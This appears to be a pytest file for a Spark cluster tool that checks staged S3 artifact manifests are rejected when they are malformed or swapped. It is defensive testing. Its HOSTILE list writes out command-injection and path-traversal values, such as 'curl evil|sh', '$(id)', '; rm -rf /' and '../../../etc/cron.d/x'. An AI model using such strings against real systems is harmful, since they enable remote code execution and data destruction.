"""The staged artifacts as an attacker with write access to the bucket would meet them:
a manifest whose names or versions are shell syntax or paths is refused wherever it is
read, and a manifest swapped together with its files is refused at install because this
machine pinned the digests it staged (sparkfab.artifact_pins)."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import boto3
import pytest
from moto import mock_aws

from sparkfab import artifact_pins, bringup, staging
from sparkfab.artifacts import BadManifest, Mirror
from sparkfab.aws.session import AwsSession
from sparkfab.config import load_settings
from sparkfab.inventory import Inventory, Node

pytest_plugins = ["aws_fixtures"]
REGION = "eu-west-3"
GOOD_FILE = {"name": "spark", "filename": "spark-4.0.1-bin-hadoop3.tgz", "sha512": "ab" * 64,
             "size": 12, "origin": "https://archive.apache.org/dist/spark/..."}
GOOD_FACTS = {"spark": "4.0.1", "hadoop": "3.4.1", "python": "3.12",
              "requirements": ["numpy==2.2.6"], "platform": "manylinux2014_x86_64"}


def _doc(file: dict[str, Any] | None = None, **facts: Any) -> dict[str, Any]:
    return {"files": [{**GOOD_FILE, **(file or {})}], "facts": {**GOOD_FACTS, **facts}}


HOSTILE = [
    ({"filename": "../../../etc/cron.d/x"}, {}),
    ({"filename": "spark.tgz; curl evil|sh"}, {}),
    ({"filename": "$(id).tgz"}, {}),
    ({"filename": "-rf"}, {}),
    ({"filename": "a\nb.tgz"}, {}),
    ({"name": "spark'\"`"}, {}),
    ({"sha512": "ab" * 64 + "\n; rm -rf /"}, {}),
    ({"sha512": "AB" * 10}, {}),
    ({"size": "12; id"}, {}),
    ({}, {"spark": "4.0.1$(touch /tmp/pwned)"}),
    ({}, {"spark": "../../usr"}),
    ({}, {"python": "3.12 && reboot"}),
    ({}, {"hadoop": ["3.4.1"]}),
]


@pytest.mark.parametrize(("file", "facts"), HOSTILE)
def test_a_manifest_with_a_hostile_value_is_refused(
        file: dict[str, Any], facts: dict[str, Any], tmp_path: Path) -> None:
    (tmp_path / "manifest.json").write_text(json.dumps(_doc(file, **facts)))
    with pytest.raises(BadManifest) as err:
        Mirror.load(tmp_path)
    assert "manifest.json" in err.value.message and err.value.hint
    assert "\n" not in err.value.message


def test_a_sparkfab_manifest_loads_and_a_listed_twice_one_does_not(tmp_path: Path) -> None:
    (tmp_path / "manifest.json").write_text(json.dumps(_doc()))
    mirror = Mirror.load(tmp_path)
    assert [f.filename for f in mirror.files] == [GOOD_FILE["filename"]]
    assert mirror.facts == GOOD_FACTS
    doc = _doc()
    doc["files"].append(dict(GOOD_FILE))
    (tmp_path / "manifest.json").write_text(json.dumps(doc))
    with pytest.raises(BadManifest, match="listed twice"):
        Mirror.load(tmp_path)


def _bucket() -> Any:
    s3 = boto3.client("s3", region_name=REGION)
    s3.create_bucket(Bucket="bkt", CreateBucketConfiguration={"LocationConstraint": REGION})
    return s3


@mock_aws
def test_a_hostile_staged_manifest_is_refused_before_any_install(aws_env: Path) -> None:
    s3 = _bucket()
    s3.put_object(Bucket="bkt", Key=staging.STAGED_MANIFEST_KEY,
                  Body=json.dumps(_doc({"filename": "x'; reboot; '"})).encode())
    with pytest.raises(BadManifest, match="s3://bkt/sparkfab/artifacts/manifest.json"):
        staging.staged_mirror(s3, "bkt")


def _mirror(root: Path, spark: bytes = b"spark tarball") -> Mirror:
    root.mkdir()
    mirror = Mirror(root, facts={"spark": "4.0.1", "python": "3.11"})
    for name, data in (("spark", spark), ("wheelhouse", b"wheels")):
        (root / f"{name}.bin").write_bytes(data)
        mirror.add(name, root / f"{name}.bin")
    mirror.save()
    return mirror


def _inv() -> Inventory:
    return Inventory("demo", REGION, "ubuntu",
                     [Node("master", "i-aaa", "m6i.large", "10.0.0.4", None, "master")],
                     bucket="bkt")


@mock_aws
def test_a_manifest_swapped_with_its_files_is_refused_at_install(aws_env: Path) -> None:
    s3 = _bucket()
    ours = _mirror(aws_env / "ours")
    staging.stage_cluster(s3, "bkt", ours, say=lambda m: None)
    assert artifact_pins.pin_path("bkt").exists()  # inventory/, kept across teardowns
    settings = load_settings({"region": REGION}, env={})
    downloads, _ = bringup.downloads_for(_inv(), settings, AwsSession(settings), print)
    assert downloads["spark"].digest == ours.get("spark").sha512

    # Someone with write access to the bucket stages their own Spark, manifest included:
    # self-consistent, so the nodes' checksum would pass. The pin does not.
    theirs = _mirror(aws_env / "theirs", spark=b"spark with a backdoor")
    staging.save_staged_manifest(s3, "bkt", theirs)
    with pytest.raises(artifact_pins.PinMismatch) as err:
        bringup.downloads_for(_inv(), settings, AwsSession(settings), print)
    assert "spark: pinned" in err.value.message and "wheelhouse" not in err.value.message
    assert "fab stage" in err.value.hint

    # Re-staging from a trusted mirror re-pins; installs go on.
    staging.stage_cluster(s3, "bkt", ours, say=lambda m: None)
    bringup.downloads_for(_inv(), settings, AwsSession(settings), print)


@mock_aws
def test_a_bucket_staged_elsewhere_is_pinned_on_first_use(aws_env: Path) -> None:
    s3 = _bucket()
    staging.stage_cluster(s3, "bkt", _mirror(aws_env / "ours"), say=lambda m: None,
                          directory=aws_env / "another-machine")
    assert not artifact_pins.pin_path("bkt").exists()
    settings = load_settings({"region": REGION}, env={})
    said: list[str] = []
    bringup.downloads_for(_inv(), settings, AwsSession(settings), said.append)
    assert artifact_pins.pin_path("bkt").exists()
    assert any("first use" in line for line in said)
    staging.save_staged_manifest(s3, "bkt", _mirror(aws_env / "later", spark=b"other"))
    with pytest.raises(artifact_pins.PinMismatch):
        bringup.downloads_for(_inv(), settings, AwsSession(settings), print)
